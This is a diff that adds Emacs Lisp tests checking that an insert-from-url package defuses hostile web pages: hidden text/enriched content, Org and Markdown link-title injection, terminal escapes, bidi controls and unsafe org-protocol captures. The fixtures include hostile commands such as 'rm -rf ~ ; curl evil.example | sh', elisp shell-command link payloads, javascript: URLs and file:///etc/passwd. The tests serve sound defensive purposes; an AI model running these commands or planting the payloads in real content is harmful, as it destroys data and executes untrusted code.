@@ -15,6 +15,9 @@
 (require 'cl-lib)
 (require 'org)
 (require 'mwheel)
+(require 'url-util)
+(require 'org-capture)
+(require 'org-protocol)
 (require 'insert-from-url)
 
 (defvar ifu-test-server (getenv "IFU_TEST_SERVER"))
@@ -817,5 +820,237 @@ buffer."
     (should (member "--render=auto" (insert-from-url--arguments "u" "org"))))
   (let ((insert-from-url-render t))
     (should (member "--render" (insert-from-url--arguments "u" "org")))))
+
+;;;; Hostile pages (issue 20)
+
+(defconst ifu-test-enriched-body
+  (concat "Content-Type: text/enriched\nText-Width: 70\n\n"
+          "<x-display><param>(display \"SAFE CONTENT\")</param>rm -rf ~ ; curl evil.example | sh</x-display>\n"
+          "<x-color><param>red</param>colored</x-color>\n")
+  "What /enriched serves (enrichedBody in elisp_test.go).")
+
+(ert-deftest ifu-test-enriched-body-stays-text ()
+  "A body that starts \"Content-Type: text/enriched\" arrives as it is, with no properties.
+`insert-file-contents' would decode it: the screen would show
+\"SAFE CONTENT\" while the buffer holds a shell command."
+  (dolist (format '("raw" "text"))
+    (with-temp-buffer
+      (insert-from-url (ifu-test-url "/enriched") format)
+      (ifu-test-wait-idle (current-buffer))
+      (should (equal-including-properties (buffer-string) ifu-test-enriched-body))
+      (should-not (next-property-change (point-min)))))
+  (should (equal-including-properties (insert-from-url-string (ifu-test-url "/enriched"))
+                                      ifu-test-enriched-body)))
+
+(ert-deftest ifu-test-output-read-literally ()
+  "Program output and stderr files are read as UTF-8 bytes: no format, no hook."
+  (let ((file (make-temp-file "ifu-enriched"))
+        (called nil))
+    (unwind-protect
+        (let ((after-insert-file-functions
+               (list (lambda (n) (setq called t) n))))
+          (let ((coding-system-for-write 'utf-8-unix))
+            (with-temp-file file (insert ifu-test-enriched-body "é€😀\n")))
+          (should (equal-including-properties (insert-from-url--read-output file)
+                                              (concat ifu-test-enriched-body "é€😀\n")))
+          (with-temp-buffer
+            (insert-from-url--insert-utf-8-file file)
+            (should (equal (buffer-string) (concat ifu-test-enriched-body "é€😀\n")))
+            (should-not (next-property-change (point-min))))
+          (should-not called))
+      (delete-file file))))
+
+(defconst ifu-test-hostile-titles
+  '("a [[[elisp:(x)]]] b" "]]]" "x]" "[x" "%%(foo)" "<2026-12-02 Wed>"
+    "<%%(diary-float t 3 4)> sexp" "a]][[elisp:(y)][b" "[[shell:touch x][Read]]"
+    ;; Beat the old escape, one pass of [[ -> "[ [" and ]] -> "] ]",
+    ;; into a live link: "] ]][ [[elisp:...][Read more] ]]".
+    "]]][[[elisp:(shell-command \"touch /tmp/ifu-pwned\")][Read more]]]"
+    "{{{date}}} @@html:<b>@@ <<<Emacs>>> <<t>>"
+    "\\(x\\) \\[y\\] \\alpha \\foo{<script>a</script>} $<script>b</script>$"
+    "src_sh{touch x} call_f()" "US$ 5 or $x$" "one\u2028two" "\u202eevil\u202c end")
+  "Page titles that try to end, nest or add Org links and markup.")
+
+(defun ifu-test-titled-url (title)
+  "Return the test server's URL of a page titled TITLE."
+  (ifu-test-url (concat "/titled?t=" (url-hexify-string title))))
+
+(defun ifu-test-plain-title (title)
+  "Return TITLE as the escaped text should read without its escapes."
+  (replace-regexp-in-string
+   "[ \t]*\u2028[ \t]*" " " (replace-regexp-in-string "[\u202a-\u202e]" "" title)))
+
+(ert-deftest ifu-test-org-link-title-escaped ()
+  "A hostile title gives one Org link to the page, and no markup of its own."
+  (require 'org-element)
+  (dolist (title ifu-test-hostile-titles)
+    (with-temp-buffer
+      (org-mode)
+      (insert "See ")
+      (let ((url (ifu-test-titled-url title)))
+        (insert-from-url-link url)
+        (ifu-test-wait-idle (current-buffer))
+        (let* ((text (buffer-string))
+               (tree (org-element-parse-buffer))
+               (links (org-element-map tree 'link #'identity)))
+          (ert-info ((format "title %S gave %S" title text))
+            (should (= (length links) 1))
+            (should (equal (org-element-property :type (car links)) "http"))
+            (should (equal (org-element-property :raw-link (car links)) url))
+            ;; The description is the title, give or take the escapes.
+            (should (equal (replace-regexp-in-string
+                            "\u200b" ""
+                            (replace-regexp-in-string
+                             "\\\\dollar{}" "$"
+                             (buffer-substring-no-properties
+                              (org-element-property :contents-begin (car links))
+                              (org-element-property :contents-end (car links)))))
+                           (ifu-test-plain-title title)))
+            (should-not (org-element-map tree '(latex-fragment macro timestamp export-snippet
+                                                target radio-target inline-src-block
+                                                inline-babel-call footnote-reference)
+                          #'identity))
+            ;; What the agenda and the bracket-link search read.
+            (should-not (string-match-p org-ts-regexp text))
+            (should-not (string-match-p "%%" text))
+            (should (= (how-many "\\[\\[" (point-min) (point-max)) 1))
+            (should (= (how-many "\\]\\]" (point-min) (point-max)) 1))
+            (should-not (string-match-p "\n" text))))))))
+
+(ert-deftest ifu-test-org-link-title-in-table ()
+  "In an Org table, a title's | neither splits the cell nor starts a formula."
+  (require 'org-element)
+  (with-temp-buffer
+    (org-mode)
+    (insert "| See  |\n")
+    (goto-char 7)
+    (insert-from-url-link (ifu-test-titled-url "a | :=(shell-command \"touch x\") | b"))
+    (ifu-test-wait-idle (current-buffer))
+    (let ((tree (org-element-parse-buffer)))
+      (ert-info ((buffer-string))
+        (should (= (length (org-element-map tree 'table-cell #'identity)) 1))
+        (should (= (length (org-element-map tree 'link #'identity)) 1))))))
+
+(ert-deftest ifu-test-markdown-link-title-escaped ()
+  "A hostile title stays the text of one Markdown link; no two brackets touch."
+  (dolist (title (append '("x](javascript:alert(1)) [y" "<javascript:alert(1)>" "`](x)`")
+                         ifu-test-hostile-titles))
+    (with-temp-buffer
+      (markdown-mode)
+      (let ((url (ifu-test-titled-url title)))
+        (insert-from-url-link url)
+        (ifu-test-wait-idle (current-buffer))
+        (ert-info ((format "title %S gave %S" title (buffer-string)))
+          (should (string-match
+                   "\\`\\[\\(\\(?:[^][\\\\`<\n]\\|\\\\[^\n]\\)*\\)\\](\\([^)\n]*\\))\\'"
+                   (buffer-string)))
+          (should (equal (replace-regexp-in-string "\\\\\\(.\\)" "\\1" (match-string 1 (buffer-string)))
+                         (ifu-test-plain-title title))))))))
+
+(ert-deftest ifu-test-text-link-title-one-line ()
+  "Elsewhere a title is one line without bidirectional controls."
+  (with-temp-buffer
+    (text-mode)
+    (let ((url (ifu-test-titled-url "one\u2028two \u202eevil")))
+      (insert-from-url-link url)
+      (ifu-test-wait-idle (current-buffer))
+      (should (equal (buffer-string) (format "one two evil <%s>" url))))))
+
+(defconst ifu-test-terminal-cleaned
+  (concat "(defun safe () \"ok\")0;open title\n(message \"kept\")\n"
+          ";; evil isolate mark\nlink done\n12")
+  "What /terminal leaves in a buffer of code.")
+
+(ert-deftest ifu-test-raw-escapes-and-bidi-removed ()
+  "An escape sequence left open swallows nothing; code loses its bidi controls."
+  (dolist (mode '(emacs-lisp-mode html-mode))
+    (with-temp-buffer
+      (funcall mode)
+      (insert-from-url (ifu-test-url "/terminal"))
+      (ifu-test-wait-idle (current-buffer))
+      (should (equal (buffer-string) ifu-test-terminal-cleaned))))
+  (should (equal (insert-from-url-string (ifu-test-url "/terminal")) ifu-test-terminal-cleaned))
+  (with-temp-buffer
+    (insert "\e]0;title\n\e]52;c;Y3VybCBldmlsfHNo\e\\after\e[31mred\e[0m\e]8;;\e\\\e(B\u009b31m\e")
+    (insert-from-url--clean-buffer t)
+    (should (equal (buffer-string) "0;title\nafterred31m"))))
+
+(ert-deftest ifu-test-prose-keeps-bidi ()
+  "Prose in a text buffer keeps its bidirectional marks."
+  (with-temp-buffer
+    (text-mode)
+    (insert-from-url (ifu-test-url "/prose") "text")
+    (ifu-test-wait-idle (current-buffer))
+    (should (equal (buffer-string) "\u05e9\u05dc\u05d5\u05dd\u200f!\n"))))
+
+(ert-deftest ifu-test-capture-only-web-urls ()
+  "`insert-from-url-capture' refuses any URL but http and https, before fetching."
+  (dolist (url '("file:///etc/passwd" "/etc/passwd" "ftp://host/x" "http://" "javascript:alert(1)"
+                 "http://host/a b" "http://host/\nx"))
+    (let ((err (should-error (insert-from-url-capture url) :type 'user-error)))
+      (should (string-match-p "only http and https" (cadr err)))))
+  (should (insert-from-url--web-url-p "HTTPS://example.org"))
+  (should (insert-from-url--web-url-p "http://127.0.0.1:8080/a?b=c#d")))
+
+(defmacro ifu-test-with-capture (file &rest body)
+  "Run BODY with FILE bound to a new Org file and the README's capture template."
+  (declare (indent 1))
+  `(let* ((,file (make-temp-file "ifu-capture" nil ".org"))
+          (org-capture-templates
+           `(("w" "Web article" entry (file ,,file)
+              "%(insert-from-url-capture \"%:link\")" :immediate-finish t))))
+     (unwind-protect
+         (progn ,@body)
+       (when-let ((b (find-buffer-visiting ,file)))
+         (with-current-buffer b (set-buffer-modified-p nil))
+         (kill-buffer b))
+       (delete-file ,file))))
+
+(defun ifu-test-org-protocol-capture (url)
+  "Capture URL as the README's bookmarklet does, through org-protocol."
+  ;; What `org-protocol-check-filename-for-protocol' does with
+  ;; org-protocol://capture?template=w&url=..., short of the server.
+  (org-protocol-capture
+   (org-protocol-parse-parameters (concat "template=w&url=" (url-hexify-string url)) t)))
+
+(defun ifu-test-captured (file)
+  "Return what the capture put into FILE."
+  (let ((b (find-buffer-visiting file)))
+    (if b (with-current-buffer b (buffer-string))
+      (with-temp-buffer (insert-file-contents file) (buffer-string)))))
+
+(ert-deftest ifu-test-capture-refuses-local-file ()
+  "The README's org-protocol template files no local file, and says why."
+  (ifu-test-with-capture file
+    (let ((secret (make-temp-file "ifu-secret")))
+      (unwind-protect
+          (progn
+            (with-temp-file secret (insert "* SECRET local file\n"))
+            (let ((err (should-error (ifu-test-org-protocol-capture (concat "file://" secret)))))
+              (should (string-match-p "Capture template .w.:" (cadr err))))
+            (should-not (string-match-p "SECRET" (ifu-test-captured file)))
+            (with-current-buffer insert-from-url-log-buffer
+              (should (string-match-p "only http and https URLs are captured" (buffer-string)))))
+        (delete-file secret)))))
+
+(ert-deftest ifu-test-capture-page-text-not-expanded ()
+  "Page text that `org-capture' would expand stays text: no prompt, no kill ring."
+  (ifu-test-with-capture file
+    (let ((kill-ring '("SECRET-FROM-THE-KILL-RING"))
+          (prompted nil))
+      (cl-letf (((symbol-function 'read-string) (lambda (&rest _) (setq prompted t) "ANSWER"))
+                ((symbol-function 'completing-read) (lambda (&rest _) (setq prompted t) "ANSWER"))
+                ((symbol-function 'completing-read-multiple) (lambda (&rest _) (setq prompted t) nil))
+                ((symbol-function 'org-read-date) (lambda (&rest _) (setq prompted t) (current-time))))
+        (ifu-test-org-protocol-capture (ifu-test-url "/capture.html")))
+      (let ((captured (ifu-test-captured file))
+            (case-fold-search nil))
+        (ert-info (captured)
+          (should-not prompted)
+          (should (string-match-p "^\\* Capture$" captured))
+          (should (string-match-p "council voted" captured))
+          (should-not (string-match-p "SECRET\\|ANSWER" captured))
+          (should (string-match-p (regexp-quote "Name: %^{Name} clip: %^C tags: %^g answer: %\\1 escaped: \\%^t end.")
+                                  captured)))))))
 
 ;;; insert-from-url-test.el ends here
